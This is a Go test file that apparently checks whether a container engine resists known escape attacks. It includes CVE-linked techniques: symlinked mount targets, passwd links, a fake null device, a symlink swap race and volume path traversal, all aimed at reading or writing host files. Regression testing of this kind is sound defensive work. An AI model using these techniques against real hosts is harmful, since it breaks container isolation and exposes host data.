package attacks

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"
)

func pathAttacks() []attack {
	return []attack{
		{class: 3, name: "targets that are links", cve: "CVE-2025-52565", because: "the root is changed before any target is opened, and then each is opened inside it: either alone suffices", run: targetsAreLinks},
		{class: 3, name: "passwd is a link", cve: "CVE-2024-9676", removed: "resolve", run: passwdIsLink},
		{class: 4, name: "fake null device", cve: "CVE-2025-31133", removed: "null", rootOnly: true, run: fakeNull},
		{class: 5, name: "targets that are swapped", cve: "CVE-2021-30465", because: "the root is changed before any target is opened, and each is opened once, by descriptor", run: swappedTargets},
		{class: 17, name: "volumes read the host", cve: "CVE-2022-23648", removed: "resolve", run: volumesReadHost},
	}
}

// targetsAreLinks has every place that an engine mounts over be a link to the
// host's tree, absolute or by way of dots.
func targetsAreLinks(a *attempt) {
	host := newTree(a)
	for _, name := range []string{"proc", "sys", "dev", "etc/hosts", "etc/resolv.conf", "etc/hostname", "dev/null", "dev/console", "dev/shm", "dev/pts", "run", "mnt"} {
		for i, to := range []string{host.path + "/" + name, strings.Repeat("../", 20) + host.path[1:] + "/data"} {
			m := image{name: fmt.Sprintf("links-%s-%d", strings.ReplaceAll(name, "/", "-"), i), layers: [][]byte{layer(a.t, entry{Header: link(name, to).Header})}}
			if r := a.load(m); r.code != 0 {
				continue // refused: as good
			}
			r := a.run("-t", "--tmpfs", "/mnt/deep", m.name, "sh", "-c", "cat /etc/hosts /mnt/secret /run/secret; echo written >/etc/hosts; echo written >/mnt/deep/x; echo written > /run/x")
			host.seen(a, "run of "+m.name, r)
			host.check(a)
		}
	}
}

// passwdIsLink has the engine look a user up in the host's files.
func passwdIsLink(a *attempt) {
	host := newTree(a)
	img := a.mustLoad(image{name: "passwd", layers: [][]byte{layer(a.t,
		link("etc/passwd", host.path+"/etc/passwd"), link("etc/group", host.path+"/etc/group"))}})
	if r := a.run("-u", "hostuser", img, "id"); r.code == 0 {
		a.broke("a user that only the host has: %s", r)
	}
	if r := a.run("--group-add", "hostgroup", img, "id"); r.code == 0 {
		a.broke("a group that only the host has: %s", r)
	}
	host.check(a)
}

// fakeNull gives the container a /dev of the attacker's, whose null device is not
// one: what hides a file would then be what the attacker likes.
func fakeNull(a *attempt) {
	host := newTree(a)
	img := a.plain()
	for name, make := range map[string]func(p string) error{
		"file": func(p string) error { return os.WriteFile(p, []byte("mask is mine\n"), 0o666) },
		"link": func(p string) error { return os.Symlink("../etc/passwd", p) },
	} {
		dev := filepath.Join(a.dir, "dev-"+name)
		if err := os.MkdirAll(dev, 0o755); err != nil {
			a.t.Fatal(err)
		}
		if err := make(filepath.Join(dev, "null")); err != nil {
			a.t.Fatal(err)
		}
		r := a.run("-v", dev+":/dev", img, "cat", "/proc/keys", "/proc/timer_list")
		if strings.Contains(r.out, "mask is mine") || strings.Contains(r.out, "root:x:0:0") {
			a.broke("%s: hidden files show what the attacker put there: %s", name, r.out)
		}
		if r.code == 0 && r.out != "" {
			a.broke("%s: hidden files can be read: %.200s", name, r.out)
		}
	}
	host.check(a)
}

// swappedTargets has a container exchange a directory and a link as fast as it
// can, while others mount below that name.
func swappedTargets(a *attempt) {
	host := newTree(a)
	img := a.plain()
	shared := filepath.Join(a.dir, "shared")
	for _, d := range []string{shared, filepath.Join(shared, "d"), filepath.Join(shared, "d/x")} {
		if err := os.MkdirAll(d, 0o777); err != nil {
			a.t.Fatal(err)
		}
		if err := os.Chmod(d, 0o777); err != nil {
			a.t.Fatal(err)
		}
	}
	if err := os.Symlink(strings.Repeat("../", 30)+host.path[1:], filepath.Join(shared, "l")); err != nil {
		a.t.Fatal(err)
	}
	c := a.detached("-v", shared+":/shared", img, "/probe", "swap", "/shared/d", "/shared/l")
	a.awaitLog(c, "ready")
	deadline := time.Now().Add(time.Minute)
	won := 0
	for i := 0; i < rounds(a.t, 60) && time.Now().Before(deadline) && len(a.breaks) == 0; i++ {
		r := a.run("-v", shared+":/shared", "--tmpfs", "/shared/d/x", img, "sh", "-c", "cat /shared/d/secret; echo written > /shared/d/x/mark; true")
		host.seen(a, "a nested mount", r)
		if r.code == 0 {
			won++
		}
		host.check(a)
	}
	a.call("rm", "-f", c)
	if won == 0 {
		a.t.Fatal("no container started: the race was not run")
	}
}

// volumesReadHost declares volumes at places that lead out of the image: a new
// volume is filled from there.
func volumesReadHost(a *attempt) {
	host := newTree(a)
	for name, m := range map[string]image{
		"link":  {layers: [][]byte{layer(a.t, link("vol", host.path+"/data"))}, config: map[string]any{"Volumes": map[string]any{"/vol": map[string]any{}}}},
		"up":    {layers: [][]byte{layer(a.t, link("vol", strings.Repeat("../", 30)+host.path[1:]+"/data"))}, config: map[string]any{"Volumes": map[string]any{"/vol": map[string]any{}}}},
		"dots":  {config: map[string]any{"Volumes": map[string]any{"/../../../../../.." + host.path + "/data": map[string]any{}}}},
		"magic": {layers: [][]byte{layer(a.t, link("vol", "/proc/self/root"+host.path+"/data"))}, config: map[string]any{"Volumes": map[string]any{"/vol": map[string]any{}}}},
	} {
		m.name = "volume-" + name
		if r := a.load(m); r.code != 0 {
			continue // refused: as good
		}
		r := a.run(m.name, "sh", "-c", "cat /vol/secret; cat "+host.path+"/data/secret; echo written >/vol/mark")
		host.seen(a, name, r)
		r = a.run("-v", a.label()+":/vol", m.name, "cat", "/vol/secret")
		host.seen(a, name+", named", r)
		a.call("volume", "rm", a.label())
		host.check(a)
	}
}
